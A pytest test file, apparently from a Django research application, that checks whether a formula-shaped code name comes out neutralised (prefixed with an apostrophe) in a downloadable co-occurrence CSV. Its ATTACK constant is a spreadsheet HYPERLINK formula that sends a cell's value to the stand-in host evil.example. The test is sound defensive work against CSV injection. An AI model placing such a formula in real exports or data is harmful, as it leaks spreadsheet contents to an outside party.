# ruff: noqa: F811  (pytest fixtures imported from the research tests)
"""A code name that looks like a formula comes out as inert text in the research CSVs."""

import csv
import io

from django.urls import reverse

from acompana.research.models import Code
from acompana.research.tests.test_views import codable, document, study  # noqa: F401

ATTACK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


def test_a_formula_code_name_is_neutralized_in_the_cooccurrence_csv(
    world,
    study,
    document,
    as_persona,
):
    Code.objects.filter(pk=codable(study, "a_priori").pk).update(name=ATTACK)
    address = reverse(
        "research:analysis_download", args=[world.program.slug, study.slug, "cooccurrence.csv"]
    )
    text = as_persona("researcher").get(address).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
